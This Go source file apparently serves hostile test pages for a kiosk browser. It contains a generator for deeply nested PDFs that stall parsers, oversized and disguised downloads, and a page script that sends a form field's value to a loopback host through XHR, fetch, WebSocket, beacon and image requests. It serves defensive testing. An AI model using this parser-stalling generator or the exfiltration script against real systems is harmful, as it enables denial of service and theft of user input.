package demosite

import (
	"bytes"
	"fmt"
	"html/template"
	"net"
	"net/http"
	"net/url"
	"strconv"
)

// DeepPageTree is a hostile PDF of about size bytes: a page tree nested one
// level per object, the shape that makes a PDF parser walk for minutes. It is
// well formed (a cross-reference table, one real page at the bottom).
func DeepPageTree(size int) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.7\n")
	var offsets []int
	obj := func(format string, args ...any) {
		offsets = append(offsets, b.Len())
		fmt.Fprintf(&b, "%d 0 obj\n", len(offsets))
		fmt.Fprintf(&b, format, args...)
		b.WriteString("\nendobj\n")
	}
	obj("<</Type/Catalog/Pages 2 0 R>>")
	// Each level costs about 80 bytes here and 20 in the table.
	levels := max(1, size/100)
	for i := 0; i < levels; i++ {
		n := len(offsets) + 1
		parent := ""
		if i > 0 {
			parent = fmt.Sprintf("/Parent %d 0 R", n-1)
		}
		obj("<</Type/Pages/Kids[%d 0 R]/Count 1%s>>", n+1, parent)
	}
	obj("<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]>>", len(offsets))
	xref := b.Len()
	fmt.Fprintf(&b, "xref\n0 %d\n0000000000 65535 f \n", len(offsets)+1)
	for _, o := range offsets {
		fmt.Fprintf(&b, "%010d 00000 n \n", o)
	}
	fmt.Fprintf(&b, "trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", len(offsets)+1, xref)
	return b.Bytes()
}

// hostile serves the pages a hostile or careless site would: every kind of
// sub-resource aimed at another host, the native pickers, oversized and
// hostile downloads. They sit beside the demo service for Borne's tests and
// need no login. It reports false for a path it does not know.
func (s *Server) hostile(w http.ResponseWriter, r *http.Request, site Site, rest string) bool {
	q := r.URL.Query()
	switch rest {
	case "leaks":
		to, err := url.Parse(q.Get("to"))
		if err != nil || to.Scheme != "http" || !net.ParseIP(to.Hostname()).IsLoopback() {
			http.Error(w, "to: a loopback http:// address", http.StatusBadRequest)
			return true
		}
		ws := *to
		ws.Scheme = "ws"
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_ = hostilePages.ExecuteTemplate(w, "leaks", struct{ To, WS string }{to.String(), ws.String()})
	case "note": // a form whose field takes the focus as the page opens (what it sends is the test's)
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_ = hostilePages.ExecuteTemplate(w, "note", nil)
	case "widgets":
		w.Header().Set("Content-Type", "text/html; charset=utf-8")
		_ = hostilePages.ExecuteTemplate(w, "widgets", nil)
	case "deep.pdf": // a hostile PDF that is slow to parse
		mb, _ := strconv.Atoi(q.Get("mb"))
		w.Header().Set("Content-Type", "application/pdf")
		w.Header().Set("Content-Disposition", `attachment; filename="deep.pdf"`)
		_, _ = w.Write(DeepPageTree(min(max(mb, 1), 64) << 20))
	case "flood.pdf": // more than the kiosk keeps, with or without saying so
		mb, _ := strconv.Atoi(q.Get("mb"))
		n := int64(min(max(mb, 1), 200)) << 20
		w.Header().Set("Content-Type", "application/pdf")
		w.Header().Set("Content-Disposition", `attachment; filename="flood.pdf"`)
		if q.Get("announce") != "" {
			w.Header().Set("Content-Length", strconv.FormatInt(n, 10))
		}
		chunk := bytes.Repeat([]byte("%PDF-1.7 flood\n"), 4096)
		for sent := int64(0); sent < n; sent += int64(len(chunk)) {
			if _, err := w.Write(chunk); err != nil {
				return true // the kiosk hung up: what is wanted
			}
		}
	case "disguised.pdf": // a web page that says it is a PDF
		w.Header().Set("Content-Type", "application/octet-stream")
		w.Header().Set("Content-Disposition", `attachment; filename="attestation.pdf"`)
		_, _ = w.Write([]byte("<html><body>not a PDF</body></html>"))
	default:
		return false
	}
	return true
}

var hostilePages = template.Must(template.New("hostile").Parse(`
{{define "leaks"}}<!doctype html>
<html lang="fr"><head><meta charset="utf-8"><title>Fuites</title>
<link rel="stylesheet" href="{{.To}}/css">
<link rel="preload" as="image" href="{{.To}}/preload">
<style>@font-face{font-family:leak;src:url("{{.To}}/font")} body{font-family:leak} #bg{background:url("{{.To}}/css-bg")}</style>
<script src="{{.To}}/script"></script></head>
<body><h1>Une page qui essaie de parler à un autre site</h1>
<div id="bg">fond</div>
<img src="{{.To}}/img" alt="">
<video src="{{.To}}/video"></video><audio src="{{.To}}/audio"></audio>
<p><label>Numéro <input id="secret" name="secret"></label></p>
<p><a id="ping-link" href="help" ping="{{.To}}/ping">Aide</a></p>
<script>
const to = {{.To}};
const secret = () => document.getElementById("secret").value;
function leak() {
	try { const x = new XMLHttpRequest(); x.open("POST", to + "/xhr"); x.send(secret()); } catch (e) {}
	try { fetch(to + "/fetch", {method: "POST", body: secret(), mode: "no-cors"}).catch(() => {}); } catch (e) {}
	try { new WebSocket({{.WS}} + "/ws"); } catch (e) {}
	try { new EventSource(to + "/sse"); } catch (e) {}
	try { navigator.sendBeacon(to + "/beacon", secret()); } catch (e) {}
	try { new Image().src = to + "/img-js?" + encodeURIComponent(secret()); } catch (e) {}
	try { const l = document.createElement("link"); l.rel = "prefetch"; l.href = to + "/prefetch"; document.head.appendChild(l); } catch (e) {}
}
leak();
window.leak = leak;
</script></body></html>{{end}}

{{define "note"}}<!doctype html>
<html lang="fr"><head><meta charset="utf-8"><title>Connexion</title></head>
<body><form method="post" action="note"><label>Identifiant <input name="user" autofocus autocomplete="off"></label></form></body></html>{{end}}

{{define "widgets"}}<!doctype html>
<html lang="fr"><head><meta charset="utf-8"><title>Champs</title>
<style>body{font-family:sans-serif;font-size:20px;margin:2em} input,select{font-size:24px;margin:1em;display:block}</style></head>
<body><h1>Champs qui ouvrent des fenêtres</h1>
<input type="color" id="color">
<select id="select"><option>Ain</option><option>Aisne</option><optgroup label="Île-de-France"><option>Paris</option><option>Yvelines</option></optgroup></select>
<input type="date" id="date">
<input type="time" id="time">
<input type="datetime-local" id="datetime">
</body></html>{{end}}
`))
